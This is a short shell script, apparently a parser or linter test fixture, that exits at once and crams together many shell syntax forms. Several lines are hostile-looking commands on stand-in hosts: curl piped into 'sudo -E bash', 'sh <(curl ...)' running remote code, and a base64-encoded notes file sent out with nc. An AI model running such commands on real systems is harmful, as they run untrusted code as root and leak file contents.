#!/bin/sh
# Read by a test, run by nobody.
exit 0
CACHE="$HOME/.cache" A=1
curl -fsSL "https://a.test/$1?x=${A:-none}" | sudo -E bash -s -- --yes > /dev/null 2>&1 &
x=$(cat notes.txt | base64 -w0); y=`uname -a`
send() { nc host.test 99 <<< "$x"; }
send
cat <<DONE > "$CACHE/f" && echo done
one $y
DONE
if [ -f a ]; then touch "$CACHE"; elif true; then :; else exit 1; fi
for f in one.txt "$x"; do cp "$f" b; done
cat list | while read line; do wget "$line"; done
find . | xargs -n1 ls
cat <<'DONE' | python3
print("$x")
DONE
sh <(curl https://a.test/x)
export B=$'\x41' C
